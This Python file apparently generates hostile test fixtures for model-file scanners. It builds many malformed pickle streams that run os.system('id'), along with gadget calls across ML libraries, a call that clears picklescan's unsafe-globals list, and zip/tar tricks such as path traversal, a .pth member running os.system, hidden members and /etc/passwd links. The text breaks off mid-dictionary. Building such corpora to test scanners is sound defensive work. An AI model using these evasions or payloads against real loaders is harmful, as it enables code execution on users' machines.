"""More hostile files, by mechanisms that hostile_files.py has not: what readers of the same bytes read differently,
hooks that run without a call by name, and configurations that lead to code. They are read, never opened."""

from __future__ import annotations

import base64
import gzip
import io
import json
import lzma
import struct
import zipfile
import zlib
from typing import Any

from hostile_parts import (
    RUN,
    SYSTEM,
    Maker,
    archive,
    call,
    called,
    field,
    gguf,
    js,
    keras,
    layer,
    made,
    named,
    new,
    notebook,
    npy,
    onnx,
    onnx_external,
    onnx_node,
    pickled,
    raw_bytes,
    safetensors,
    saved_model,
    script,
    sequential,
    tar,
    text,
    tf_node,
    tflite,
    torch_zip,
    value,
)

ARGS = value(("id",))
EVIL = new(named("evil", "Thing"))


# ---- pickles ----


def streams() -> dict[str, Maker]:
    """Opcodes that pickle, its copy in C, and readers of opcodes may understand differently."""
    return {
        "global_dotted_p2.pkl": lambda: b"\x80\x02cposixpath\nos.system\n" + ARGS + b"R.",
        "global_dotted_p4.pkl": lambda: b"\x80\x04cposixpath\nos.system\n" + ARGS + b"R.",
        "global_space.pkl": lambda: b"\x80\x02cposix \nsystem\n" + ARGS + b"R.",
        "global_utf8.pkl": lambda: b"\x80\x04c\xef\xbd\x90osix\nsystem\n" + ARGS + b"R.",
        "global_empty_module.pkl": lambda: b"\x80\x04c\nsystem\n" + ARGS + b"R.",
        "global_tab.pkl": lambda: b"\x80\x02c\tposix\nsystem\n" + ARGS + b"R.",
        "inst_dotted.pkl": lambda: b"\x80\x04(S'id'\niposixpath\nos.system\n.",
        "inst_nothing.pkl": lambda: b"(isite\nmain\n.",
        "obj_nothing.pkl": lambda: b"(csite\nmain\no.",
        "obj_foreign.pkl": lambda: b"(cevil\nThing\no.",
        "compat_commands.pkl": lambda: b"\x80\x02ccommands\ngetoutput\n" + ARGS + b"R.",
        "compat_apply.pkl": lambda: b"\x80\x02c__builtin__\nreduce\n" + value((SYSTEM, ["id", "id"])) + b"R.",
        "compat_whichdb.pkl": lambda: b"\x80\x02cwhichdb\nwhichdb\n" + ARGS + b"R.",
        "compat_urllib.pkl": lambda: b"\x80\x02curllib\nurlopen\n" + ARGS + b"R.",
        "compat_intern.pkl": lambda: b"\x80\x02c__builtin__\nintern\n" + value((EVIL,)) + b"R.",
        "protocol0_all_ascii.txt": lambda: b"cos\nsystem\n(Vid\ntR.",
        "protocol9.pkl": lambda: b"\x80\x09" + RUN[2:],
        "protocol255.pkl": lambda: b"\x80\xff" + RUN[2:],
        "unicode_long.pkl": lambda: pickled(
            b"\x8d\x05" + bytes(7) + b"posix\x8d\x06" + bytes(7) + b"system\x93" + ARGS + b"R"
        ),
        "string_long.pkl": lambda: b"\x80\x02cposix\nsystem\n(T\x02\0\0\0idtR.",
        "string_quotes.pkl": lambda: b'cposix\nsystem\n(S"id"\ntR.',
        "string_bad_quotes.pkl": lambda: b"cposix\nsystem\n(S'id'\ntR(S'x\n.",
        "int_true.pkl": lambda: b"I01\n0cposix\nsystem\n(Vid\ntR.",
        "int_underscore.pkl": lambda: b"I1_0\n0cposix\nsystem\n(Vid\ntR.",
        "int_hex.pkl": lambda: b"I0x10\n0cposix\nsystem\n(Vid\ntR.",
        "int_spaces.pkl": lambda: b"I  7  \n0cposix\nsystem\n(Vid\ntR.",
        "long_no_letter.pkl": lambda: b"L7\n0cposix\nsystem\n(Vid\ntR.",
        "float_nan.pkl": lambda: b"Fnan\n0cposix\nsystem\n(Vid\ntR.",
        "float_infinity.pkl": lambda: b"F-Infinity\n0cposix\nsystem\n(Vid\ntR.",
        "float_underscore.pkl": lambda: b"F1_0.5\n0cposix\nsystem\n(Vid\ntR.",
        "get_spaces.pkl": lambda: b"cposix\nsystem\np 5 \n0g5\n(Vid\ntR.",
        "get_plus.pkl": lambda: b"cposix\nsystem\np+5\n0g5\n(Vid\ntR.",
        "get_zeros.pkl": lambda: b"cposix\nsystem\np005\n0g5\n(Vid\ntR.",
        "get_negative.pkl": lambda: b"cposix\nsystem\np-5\n0g-5\n(Vid\ntR.",
        "memo_swap.pkl": lambda: pickled(
            named("builtins", "len") + b"q\x05" + b"0" + SYSTEM + b"p5\n" + b"0j\x05\0\0\0" + ARGS + b"R"
        ),
        "memoize_after_put.pkl": lambda: pickled(
            named("builtins", "len") + b"q\x01" + b"0" + SYSTEM + b"\x94" + b"0h\x01" + ARGS + b"R"
        ),
        "dup_mark.pkl": lambda: pickled(b"N2(" + SYSTEM + text("id") + b"o"),
        "pop_through_mark.pkl": lambda: pickled(SYSTEM + b"(NN1" + ARGS + b"R"),
        "pop_is_mark.pkl": lambda: pickled(SYSTEM + b"(0" + ARGS + b"R"),
        "stop_in_text.pkl": lambda: pickled(text("..........") + b"0" + called(SYSTEM, "id")),
        "stop_in_frame.pkl": lambda: b"\x80\x04\x95\x02\0\0\0\0\0\0\0N." + RUN,
        "frames_nested.pkl": lambda: b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x95\x10\0\0\0\0\0\0\0" + RUN[2:],
        "frame_zero.pkl": lambda: b"\x80\x04\x95" + bytes(8) + RUN[2:],
        "frame_huge.pkl": lambda: b"\x80\x04\x95" + b"\xff" * 8 + RUN[2:],
        "reduce_dict.pkl": lambda: pickled(SYSTEM + b"](" + text("id") + b"eR"),
        "reduce_not_tuple.pkl": lambda: pickled(SYSTEM + text("id") + b"R"),
        "reduce_result.pkl": lambda: pickled(
            called(called(named("builtins", "getattr"), named("posixpath", "os"), "system"), "id")
        ),
        "reduce_of_build.pkl": lambda: pickled(called(EVIL + value({"a": 1}) + b"b", "id")),
        "newobj_function.pkl": lambda: pickled(SYSTEM + ARGS + b"\x81"),
        "newobj_ex_foreign.pkl": lambda: pickled(named("evil", "Thing") + b")}\x92"),
        "newobj_type.pkl": lambda: pickled(
            new(named("builtins", "type"), "X", (), {"__init_subclass__": SYSTEM, "__del__": SYSTEM})
        ),
        "newobj_meta.pkl": lambda: pickled(new(named("enum", "EnumType"), "X", (), {})),
        "build_none.pkl": lambda: pickled(EVIL + b"Nb"),
        "build_tuple.pkl": lambda: pickled(EVIL + value((None, {"__dict__": 1})) + b"b"),
        "build_plain_int.pkl": lambda: pickled(value(7) + value({"__class__": SYSTEM}) + b"b"),
        "build_on_type.pkl": lambda: pickled(
            named("collections", "Counter") + value((None, {"__missing__": SYSTEM})) + b"b"
        ),
        "build_dict_class.pkl": lambda: pickled(
            new(named("argparse", "Namespace")) + value((None, {"__class__": named("subprocess", "Popen")})) + b"b"
        ),
        "setitem_on_module.pkl": lambda: pickled(named("builtins", "__dict__") + text("len") + SYSTEM + b"s"),
        "setitem_foreign.pkl": lambda: pickled(EVIL + b"NNs"),
        "append_foreign.pkl": lambda: pickled(EVIL + b"Na"),
        "additems_foreign.pkl": lambda: pickled(EVIL + b"(N\x90"),
        "dict_opcode_key.pkl": lambda: pickled(b"(" + EVIL + b"Nd"),
        "frozenset_key.pkl": lambda: pickled(b"}" + b"(" + EVIL + b"\x91" + b"Ns"),
        "tuple_key.pkl": lambda: pickled(b"}" + EVIL + b"\x85" + b"Ns"),
        "persistent_name.pkl": lambda: pickled(SYSTEM + b"Q" + ARGS + b"R"),
        "persistent_called.pkl": lambda: b"\x80\x02" + text("storage") + b"Q" + ARGS + b"R.",
        "extension2.pkl": lambda: pickled(b"\x83\x01\0" + ARGS + b"R"),
        "extension_only.pkl": lambda: pickled(b"\x82\x07"),
        "extension_added.pkl": lambda: pickled(
            called(named("copyreg", "add_extension"), "posix", "system", 7) + b"0\x82\x07" + ARGS + b"R"
        ),
        "bytearray8.pkl": (
            lambda: b"\x80\x05\x96"
            + struct.pack("<Q", len(RUN))
            + RUN
            + b"\x940"
            + named("pickle", "loads")
            + b"(h\0tR."
        ),
        "bytes8_loads.pkl": lambda: pickled(
            named("torch.storage", "_load_from_bytes") + b"(\x8e" + struct.pack("<Q", len(RUN)) + RUN + b"tR"
        ),
        "string_loads.pkl": (
            lambda: b"\x80\x02ctorch.storage\n_load_from_bytes\n(T" + struct.pack("<I", len(RUN)) + RUN + b"tR."
        ),
        "surrogate_name.pkl": lambda: b"Vposix\\ud800\n0cposix\nsystem\n(Vid\ntR.",
        "raise_then_run.pkl": lambda: pickled(called(SYSTEM, "id") + b"0" + named("no.such", "thing")),
        "long4_negative.pkl": lambda: pickled(called(SYSTEM, "id") + b"0\x8b\xff\xff\xff\xff"),
        "short_stack.pkl": lambda: pickled(called(SYSTEM, "id") + b"0R"),
        "nul_in_name.pkl": lambda: pickled(text("posix") + text("system\0x") + b"\x93" + ARGS + b"R"),
        "name_from_list.pkl": lambda: pickled(
            text("posix") + called(named("builtins", "str"), "system") + b"\x93" + ARGS + b"R"
        ),
        "name_of_subclass.pkl": lambda: pickled(
            new(named("collections", "UserString"), "posix") + text("system") + b"\x93" + ARGS + b"R"
        ),
        "three_streams.pkl": lambda: pickled(b"N") + pickled(b"}") + RUN,
        "stream_in_zeros.pkl": lambda: pickled(b"N") + bytes(4096) + RUN,
        "magic_then_run.pkl": lambda: b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19." + RUN,
        "numpy_fromstring.pkl": call("numpy", "fromstring", "1 2", "O"),
    }


def hooks() -> dict[str, Maker]:
    """Helpers that call, import, compare, render or delete, each with plain looking arguments."""
    namespace = named("argparse", "Namespace")
    partial = called(named("functools", "partial"), SYSTEM, "id")
    rows: list[tuple[Any, ...]] = [
        ("_pyrepl.pager", "pipe_pager", "x", "id"),
        ("_pyrepl.pager", "tempfile_pager", "x", "id"),
        ("_ios_support", "objc.CDLL", "x"),
        ("importlib.util", "spec_from_file_location", "a", "x.py"),
        ("importlib.util", "find_spec", "evil.module"),
        ("importlib.metadata", "EntryPoint.load", None),
        ("importlib.resources", "files", "evil"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", None, "id", True, None, None, None, 0),
        ("concurrent.futures", "Future.add_done_callback", None, SYSTEM),
        ("concurrent.futures.process", "_process_worker", None, None, SYSTEM, ("id",)),
        ("contextvars", "Context.run", None, SYSTEM, "id"),
        ("graphlib", "TopologicalSorter", EVIL),
        ("string", "Template.substitute", EVIL),
        ("string", "Formatter().format", "{0.__class__}", 1),
        ("re", "sub", "x", SYSTEM, "x"),
        ("re", "Scanner", [("x", SYSTEM)]),
        ("json", "loads", "{}", SYSTEM),
        ("json.decoder", "JSONDecoder", SYSTEM),
        ("csv", "reader", EVIL),
        ("xml.sax", "parse", "http://h/x"),
        ("xml.etree.ElementTree", "parse", "/etc/passwd"),
        ("xml.dom.minidom", "parse", "/etc/passwd"),
        ("plistlib", "loads", raw_bytes(b"x"), SYSTEM),
        ("tomllib", "loads", "a = 1.0", SYSTEM),
        ("configparser", "RawConfigParser.read", None, "/etc/passwd"),
        ("locale", "setlocale", 6, "x"),
        ("gettext", "c2py", "n"),
        ("gettext", "translation", "x", "/tmp"),
        ("mimetypes", "read_mime_types", "/etc/passwd"),
        ("netrc", "netrc", "/etc/passwd"),
        ("getpass", "unix_getpass"),
        ("pwd", "getpwnam", "root"),
        ("glob", "glob", "/*"),
        ("filecmp", "cmp", "/etc/passwd", "/etc/shadow"),
        ("tarfile", "open", "/tmp/x", "w"),
        ("zipfile", "ZipFile", "/tmp/x", "w"),
        ("gzip", "open", "/tmp/x", "w"),
        ("bz2", "BZ2File", "/tmp/x", "w"),
        ("lzma", "LZMAFile", "/tmp/x", "w"),
        ("wave", "open", "/tmp/x", "w"),
        ("pathlib", "Path.write_bytes", None, raw_bytes(b"x")),
        ("pathlib", "Path.unlink", None),
        ("pathlib", "PosixPath.symlink_to", None, "/etc/passwd"),
        ("mmap", "mmap", -1, 8),
        ("selectors", "EpollSelector"),
        ("readline", "write_history_file", "/tmp/x"),
        ("curses", "initscr"),
        ("tracemalloc", "start"),
        ("sched", "scheduler.run", None),
        ("wsgiref.simple_server", "make_server", "h", 80, SYSTEM),
        ("socketserver", "TCPServer", ("h", 80), SYSTEM),
        ("encodings", "search_function", "evil"),
        ("codecs", "lookup", "evil"),
        ("codecs", "register", SYSTEM),
        ("_codecs", "register_error", "strict", SYSTEM),
        ("warnings", "showwarning", "x", None, "x", 1),
        ("traceback", "print_stack"),
        ("types", "coroutine", SYSTEM),
        ("types", "DynamicClassAttribute", SYSTEM),
        ("types", "prepare_class", "x", (), {"metaclass": SYSTEM}),
        ("builtins", "classmethod.__get__", None, 1, 2),
        ("builtins", "type.__call__", named("subprocess", "Popen"), "id"),
        ("builtins", "object.__init_subclass__"),
        ("builtins", "sum", [EVIL, EVIL]),
        ("builtins", "max", [EVIL, EVIL]),
        ("builtins", "any", called(named("builtins", "map"), SYSTEM, ["id"])),
        ("builtins", "dict.fromkeys", called(named("builtins", "map"), SYSTEM, ["id"])),
        ("builtins", "hash", EVIL),
        ("builtins", "repr", EVIL),
        ("builtins", "format", EVIL, "x"),
        ("builtins", "next", EVIL),
        ("builtins", "int.__rpow__", EVIL, 2),
        ("builtins", "hasattr", EVIL, "x"),
        ("builtins", "isinstance", EVIL, EVIL),
        ("builtins", "super", EVIL),
        ("builtins", "staticmethod", SYSTEM),
        ("builtins", "property", SYSTEM),
        ("builtins", "slice.__reduce__", None),
        ("operator", "setitem", named("builtins", "__dict__"), "len", SYSTEM),
        ("operator", "getitem", named("sys", "modules"), "os"),
        ("operator", "iconcat", named("sys", "path"), ["/tmp"]),
        ("operator", "contains", EVIL, 1),
        ("operator", "index", EVIL),
        ("functools", "partial", SYSTEM, "id"),
        ("functools", "cmp_to_key", SYSTEM),
        ("functools", "wraps", SYSTEM),
        ("functools", "lru_cache", SYSTEM),
        ("itertools", "accumulate", ["id", "id"], SYSTEM),
        ("itertools", "groupby", ["id"], SYSTEM),
        ("itertools", "chain", called(named("builtins", "map"), SYSTEM, ["id"])),
        ("collections", "Counter", EVIL),
        ("heapq", "merge", ["id"]),
        ("bisect", "insort", [1], "id", 0, 1),
        ("copy", "deepcopy", EVIL),
        ("copy", "_reconstruct", None, None, SYSTEM, ("id",)),
        ("copyreg", "_reconstructor", named("evil", "Thing"), named("builtins", "object"), None),
        ("copyreg", "__reduce_ex__", None, 2),
        ("abc", "ABCMeta.register", None, EVIL),
        ("enum", "Enum", "X", "a b"),
        ("typing", "NamedTuple", "X", []),
        ("typing", "TypedDict", "X", {}),
        ("statistics", "mean", EVIL),
        ("random", "shuffle", EVIL),
        ("decimal", "Context", EVIL),
        ("torch", "utils.data._utils.worker._worker_loop", None),
        ("torch", "from_file", "/etc/passwd"),
        ("torch", "_C._jit_set_texpr_fuser_enabled", True),
        ("torch", "_C.import_ir_module", None, "x"),
        ("torch._C", "PyTorchFileReader", "/etc/passwd"),
        ("torch._C", "_load_for_lite_interpreter", "/x"),
        ("torch._C._distributed_c10d", "TCPStore", "h", 80),
        ("torch._C._distributed_c10d", "FileStore", "/tmp/x", 1),
        ("torch.distributed", "init_process_group", "gloo"),
        ("torch.utils.dlpack", "from_dlpack", EVIL),
        ("torch.utils.tensorboard", "SummaryWriter", "/tmp/x"),
        ("torch.profiler", "profile"),
        ("torch.cuda", "_lazy_call", SYSTEM),
        ("torch.utils._pytree", "tree_map", SYSTEM, ["id"]),
        ("torch.utils.checkpoint", "checkpoint", SYSTEM, "id"),
        ("torch.func", "vmap", SYSTEM),
        ("torch.autograd.function", "once_differentiable", SYSTEM),
        ("torch.nn.utils.parametrize", "type_before_parametrizations", EVIL),
        ("torch._dynamo", "disable", SYSTEM),
        ("torch._inductor.runtime.compile_tasks", "_reload_python_module", "a", "x.py"),
        ("torch._export.serde.serialize", "deserialize", None),
        ("torch.ao.quantization.fx._decomposed", "eval"),
        ("torch._tensor", "_rebuild_from_type", SYSTEM, "id", None, None),
        ("torch._utils", "_import_dotted_name", "os.system"),
        ("torch._jit_internal", "_qualified_name", EVIL),
        ("torch.jit._serialization", "load", "x"),
        ("torch.export", "load", "x"),
        ("torch._weights_only_unpickler", "load", EVIL),
        ("torch.serialization", "add_safe_globals", [SYSTEM]),
        ("torch.serialization", "register_package", 0, SYSTEM, SYSTEM),
        ("torch.overrides", "handle_torch_function", SYSTEM, [], "id"),
        ("torch.library", "Library", "x", "DEF"),
        ("torch.futures", "Future.then", None, SYSTEM),
        ("numpy", "genfromtxt", "/etc/passwd"),
        ("numpy", "piecewise", 1, [True], [SYSTEM]),
        ("numpy", "lib.npyio.DataSource.open", None, "http://h/x"),
        ("numpy", "set_printoptions", 1),
        ("numpy", "require", EVIL),
        ("numpy._core._multiarray_umath", "_load_from_filelike", EVIL),
        ("numpy._core.records", "fromfile", "/etc/passwd"),
        ("numpy.ctypeslib", "as_array", EVIL),
        ("numpy.lib.introspect", "opt_func_info", "x"),
        ("numpy.random", "seed", 1),
        ("numpy.lib.recfunctions", "apply_along_fields", SYSTEM, [1]),
        ("numpy", "ndarray.tofile", None, "/tmp/x"),
        ("numpy", "ndarray.dump", None, "/tmp/x"),
        ("pandas", "DataFrame.to_csv", None, "/tmp/x"),
        ("pandas", "read_csv", "http://h/x"),
        ("pandas", "DataFrame.pipe", None, SYSTEM),
        ("pandas.core.computation.eval", "eval", "@x"),
        ("pandas.core.groupby.ops", "BaseGrouper.apply", None, SYSTEM),
        ("pandas._libs.lib", "map_infer", [1], SYSTEM),
        ("pandas._libs.parsers", "TextReader", "/etc/passwd"),
        ("pandas.io.sql", "read_sql", "x", "sqlite:////tmp/x"),
        ("scipy.io", "savemat", "/tmp/x", {}),
        ("scipy._lib._ccallback", "LowLevelCallable", SYSTEM),
        ("scipy.integrate", "quad", SYSTEM, 0, 1),
        ("scipy.optimize._root", "root", SYSTEM, 1),
        ("scipy.spatial.distance", "pdist", [[1]], SYSTEM),
        ("scipy.interpolate", "Rbf", [1], [1], SYSTEM),
        ("sklearn.utils", "Bunch.__setstate__", EVIL, {}),
        ("sklearn.utils.metaestimators", "available_if", SYSTEM),
        ("sklearn.metrics", "make_scorer", SYSTEM),
        ("sklearn.datasets", "load_svmlight_file", "/etc/passwd"),
        ("sklearn.metrics.pairwise", "pairwise_distances", [[1]], [[1]], SYSTEM),
        ("sklearn.externals", "joblib.load", "x"),
        ("sklearn.tree", "export_graphviz", None, "/tmp/x"),
        ("joblib", "dump", [1], "/tmp/x"),
        ("joblib.externals.loky", "cloudpickle.loads", raw_bytes(RUN)),
        ("joblib.externals.cloudpickle", "loads", raw_bytes(RUN)),
        ("joblib.externals.loky.process_executor", "_CallItem", 1, SYSTEM, ("id",), {}),
        (
            "joblib._memmapping_reducer",
            "_strided_from_memmap",
            "/etc/passwd",
            "u1",
            "r",
            0,
            "C",
            (1,),
            None,
            1,
            False,
        ),
        ("joblib.func_inspect", "get_func_code", SYSTEM),
        ("transformers.utils", "cached_file", "a/b", "c"),
        ("transformers.utils.import_utils", "_LazyModule", "x", "y", {}),
        ("transformers", "Tool.from_hub", "a/b"),
        ("transformers.utils.hub", "http_get", "http://h", None),
        ("transformers.trainer_utils", "set_seed", 1),
        ("transformers.onnx.utils", "compute_effective_axis_dimension", EVIL),
        ("timm.models", "load_checkpoint", None, "x"),
        ("timm.models._hub", "load_state_dict_from_hf", "a/b"),
        ("torchvision.datasets", "DatasetFolder", "/", SYSTEM),
        ("torchvision.datasets.utils", "extract_archive", "/x", "/tmp"),
        ("torchvision.transforms.functional", "to_pil_image", EVIL),
        ("torchvision.io", "write_file", "/tmp/x", None),
        ("PIL.Image", "open", "/etc/passwd"),
        ("PIL.ImageShow", "_viewers.append", SYSTEM),
        ("PIL.ImageMath", "eval", "1"),
        ("matplotlib", "rc_file", "x"),
        ("matplotlib.cbook", "_load_image", "x"),
        ("lightning.pytorch.utilities.migration", "migrate_checkpoint", {}),
        ("pytorch_lightning.core.saving", "load_hparams_from_yaml", "x"),
        ("lightning.fabric.utilities.cloud_io", "_load", "http://h/x"),
        ("omegaconf", "OmegaConf.load", "x"),
        ("omegaconf", "OmegaConf.register_new_resolver", "x", SYSTEM),
        ("fsspec", "open", "http://h"),
        ("requests", "get", "http://h"),
        ("huggingface_hub", "hf_hub_download", "a/b", "c"),
        ("safetensors", "safe_open", "/x", "pt"),
        ("onnxruntime", "InferenceSession", "x.onnx"),
        ("onnx", "load", "x"),
        ("xgboost", "Booster", None, (), "x"),
        ("lightgbm", "Booster", None, None, "x"),
        ("catboost", "CatBoost.load_model", None, "x"),
        ("tensorrt", "Runtime", None),
        ("ultralytics.utils.checks", "check_requirements", "x"),
        ("ultralytics", "YOLO", "http://h/x.pt"),
        ("fairseq.checkpoint_utils", "load_checkpoint_to_cpu", "x"),
        ("nemo.core", "ModelPT.restore_from", "x"),
        ("mlflow.pyfunc", "load_model", "x"),
        ("fastai.learner", "load_learner", "x"),
        ("fastcore.foundation", "L.map", None, SYSTEM),
        ("spacy", "load", "x"),
        ("gensim.utils", "unpickle", "x"),
        ("pyarrow", "memory_map", "/etc/passwd"),
        ("polars", "read_csv", "x"),
        ("dask", "delayed", SYSTEM),
        ("ray", "init"),
        ("cffi", "FFI.dlopen", None, "x"),
        ("numba.core.serialize", "_unpickle__CustomPickled", raw_bytes(RUN)),
        ("llvmlite.binding", "load_library_permanently", "x"),
        ("fickling", "always_check_safety"),
        ("picklescan.scanner", "_unsafe_globals.clear"),
    ]
    out: dict[str, Maker] = {
        f"more_{module}.{name}".replace("_", "-").replace("()", "")[:90] + ".pkl": call(module, name, *arguments)
        for module, name, *arguments in rows
    }
    out |= {
        "exception_group.pkl": call("builtins", "ExceptionGroup", "x", [EVIL]),
        "stop_iteration.pkl": lambda: pickled(called(named("builtins", "StopIteration"), EVIL)),
        "partial_state.pkl": lambda: pickled(
            new(named("functools", "partial"), named("builtins", "int")) + value((SYSTEM, ("id",), {}, {})) + b"b"
        ),
        "partial_namespace.pkl": lambda: pickled(new(namespace) + value({"call": partial}) + b"b"),
        "ordered_reduce.pkl": lambda: pickled(
            called(named("collections", "OrderedDict"))
            + value({"__reduce_ex__": SYSTEM, "move_to_end": SYSTEM})
            + b"b"
        ),
        "default_getitem.pkl": lambda: pickled(
            called(named("operator", "getitem"), called(named("collections", "defaultdict"), partial), "x")
        ),
        "chain_missing.pkl": lambda: pickled(
            called(named("collections", "ChainMap"), called(named("collections", "defaultdict"), partial))
        ),
        "simple_namespace.pkl": lambda: pickled(
            called(named("types", "SimpleNamespace")) + value({"__eq__": SYSTEM}) + b"b" + b"\x940}h\0Ns0" + EVIL
        ),
        "weak_callback.pkl": lambda: pickled(called(named("weakref", "ref"), new(namespace), SYSTEM)),
        "weak_dict.pkl": lambda: pickled(
            new(
                named("weakref", "WeakValueDictionary"),
                state={"data": {}, "_remove": SYSTEM, "_pending_removals": [1]},
            )
        ),
        "exit_stack.pkl": made("contextlib", "ExitStack", state={"_exit_callbacks": [(True, SYSTEM)]}),
        "lock_state.pkl": made("threading", "Condition", state={"_lock": None}),
        "http_response.pkl": made("http.client", "HTTPResponse", state={"fp": None, "chunked": False}),
        "spooled.pkl": made("tempfile", "SpooledTemporaryFile", state={"_rolled": False, "_max_size": 1}),
        "socket_state.pkl": made("socket", "socket", 1, 1, 0),
        "pool.pkl": made("multiprocessing.pool", "Pool", state={"_state": "RUN", "_change_notifier": None}),
        "loop.pkl": made("asyncio.unix_events", "_UnixSelectorEventLoop", state={"_closed": False}),
        "tensor_hook.pkl": lambda: pickled(
            called(
                named("torch._utils", "_rebuild_tensor_v2"),
                None,
                0,
                (1,),
                (1,),
                False,
                called(named("collections", "OrderedDict"), [(0, SYSTEM)]),
            )
        ),
        "parameter_class.pkl": lambda: pickled(called(named("torch._utils", "_rebuild_parameter"), EVIL, True, {})),
        "from_type_state.pkl": lambda: pickled(
            called(
                named("torch._tensor", "_rebuild_from_type_v2"),
                named("torch._utils", "_rebuild_tensor_v2"),
                named("evil", "T"),
                (),
                {},
            )
        ),
        "dtype_metadata.pkl": lambda: pickled(
            called(named("numpy", "dtype"), "O8", False, True)
            + value((4, "|", None, None, None, -1, -1, 63, {"x": EVIL}))
            + b"b"
        ),
        "reconstruct_type.pkl": lambda: pickled(
            called(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "memmap"), (0,), raw_bytes(b"b"))
        ),
        "array_of_evil.pkl": lambda: pickled(called(named("numpy", "array"), [EVIL])),
        "scalar_of_object.pkl": lambda: pickled(
            called(named("numpy._core.multiarray", "scalar"), called(named("numpy", "dtype"), "O8"), EVIL)
        ),
        "frame_manager.pkl": made("pandas.core.frame", "DataFrame", state={"_mgr": EVIL, "_typ": "dataframe"}),
        "index_new.pkl": lambda: pickled(
            called(named("pandas.core.indexes.base", "_new_Index"), named("evil", "Index"), {"data": [1]})
        ),
        "unpickle_block.pkl": lambda: pickled(
            called(named("pandas._libs.internals", "_unpickle_block"), EVIL, EVIL, 2)
        ),
        "sympy_state.pkl": made("sympy.core.symbol", "Symbol", "x", state={"_assumptions": EVIL}),
        "compiled_pattern.pkl": call("re", "_compile", "(a+)+$" * 3, EVIL),
    }
    return out


# ---- archives ----


def local_name(raw: bytes, old: bytes, other: bytes) -> bytes:
    """Another name in the local header than in the directory."""
    at = raw.index(old)
    return raw[:at] + other + raw[at + len(old) :]


def two_directories() -> bytes:
    """The end record that is found first leads to the harmless directory; an older one to the other."""
    return torch_zip() + torch_zip(pickled(b"}"))


def described(size_in_header: int = 0) -> bytes:
    """A member whose sizes come after its bytes, as writers to a pipe make it."""
    name, crc = b"m/data.pkl", zlib.crc32(RUN)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 8, 0, 0, 0, 0, size_in_header, size_in_header, len(name), 0)
    after = struct.pack("<4sIII", b"PK\7\x08", crc, len(RUN), len(RUN))
    body = local + name + RUN + after
    directory = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 8, 0, 0, 0, crc, len(RUN), len(RUN), len(name), 0, 0, 0, 0, 0, 0
        )
        + name
    )
    return body + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(directory), len(body), 0)


def unlisted() -> bytes:
    """A member that the directory does not have: readers of streams find it."""
    hidden = archive(("m/data.pkl", RUN))
    body = hidden[: hidden.index(b"PK\1\2")]
    seen = archive(("m/other", "x"))
    at = seen.index(b"PK\1\2")
    directory = bytearray(seen[at:])
    struct.pack_into("<I", directory, 42, len(body))
    end = directory.index(b"PK\5\6")
    struct.pack_into("<I", directory, end + 16, len(body) + at)
    return body + seen[:at] + bytes(directory)


def zip_extra(tag: int, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made_zip:
        info = zipfile.ZipInfo("m/data.pkl")
        info.extra = struct.pack("<HH", tag, len(content)) + content
        made_zip.writestr(info, RUN)
        made_zip.writestr("m/version", "3")
    return out.getvalue()


def tar_of(*infos: tuple[str, bytes, str, bytes]) -> bytes:
    """Headers of tar by hand: name, type, link, content."""
    out = b""
    for name, kind, link, content in infos:
        head = bytearray(512)
        head[0 : len(name)] = name.encode()
        head[100:108], head[108:116], head[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
        head[124:136], head[136:148] = b"%011o\0" % len(content), b"00000000000\0"
        head[156:157] = kind
        head[157 : 157 + len(link)] = link.encode()
        head[257:265] = b"ustar\x0000"
        head[148:156] = b"        "
        head[148:156] = b"%06o\0 " % sum(head)
        out += bytes(head) + content + bytes(-len(content) % 512)
    return out + bytes(1024)


def npy_v(major: int, header: str, content: bytes) -> bytes:
    raw = header.encode()
    size = struct.pack("<H" if major == 1 else "<I", len(raw))
    return b"\x93NUMPY" + bytes([major, 0]) + size + raw + content


def containers() -> dict[str, Maker]:
    shape = "'fortran_order': False, 'shape': (1,), }"
    return {
        "two_directories.pt": two_directories,
        "described.pt": described,
        "described_size.pt": lambda: described(len(RUN)),
        "unlisted.pt": unlisted,
        "local_evil.pt": lambda: local_name(
            archive(("m/readme.md", RUN), ("m/version", "3")), b"m/readme.md", b"m/data.pkl\0"
        ),
        "unicode_path.pt": lambda: zip_extra(0x7075, b"\1" + struct.pack("<I", zlib.crc32(b"m/data.pkl")) + b"m/x"),
        "zip64_extra.pt": lambda: zip_extra(0x0001, struct.pack("<QQ", len(RUN), len(RUN))),
        "absolute_member.pt": lambda: torch_zip(pickled(b"}"), ("/root/.ssh/authorized_keys", "ssh-rsa x")),
        "dots_member.pt": lambda: torch_zip(pickled(b"}"), ("m/../../x.py", "import os")),
        "pth_member.zip": lambda: archive(("site-packages/x.pth", "import os; os.system('id')\n")),
        "nul_member.pt": lambda: local_name(
            local_name(archive(("m/data.pklAtxt", RUN), ("m/version", "3")), b"m/data.pklAtxt", b"m/data.pkl\0txt"),
            b"m/data.pklAtxt",
            b"m/data.pkl\0txt",
        ),
        "symlink_member.zip": lambda: symlink_in_zip(),
        "deflate_in_gzip.pt": lambda: gzip.compress(torch_zip()),
        "two_gzip_members.pkl": lambda: gzip.compress(pickled(b"N")) + gzip.compress(RUN),
        "gzip_named.bin": lambda: b"\x1f\x8b\x08\x08" + bytes(6) + b"weights.txt\0" + gzip.compress(RUN)[10:],
        "gzip_extra.bin": lambda: b"\x1f\x8b\x08\x04" + bytes(6) + b"\4\0abcd" + gzip.compress(RUN)[10:],
        "xz_two_streams.bin": lambda: lzma.compress(pickled(b"N")) + lzma.compress(RUN),
        "xz_padding.bin": lambda: lzma.compress(pickled(b"N")) + bytes(8) + lzma.compress(RUN),
        "raw_storage.pt": lambda: torch_zip(pickled(b"}"), ("m/data/1", pickled(b"N")), ("m/data/2", RUN)),
        "json_named.pt": lambda: archive(("m/data.json", RUN), ("m/version", "3")),
        "lower_zip.pt": lambda: archive(("M/Data.pkl", RUN), ("M/version", "3")),
        "zip_of_tar_gz.zip": lambda: archive(("a.tar.gz", gzip.compress(tar(("x.pkl", RUN))))),
        "hard_link.tar": lambda: tar_of(("a", b"1", "/etc/passwd", b"")),
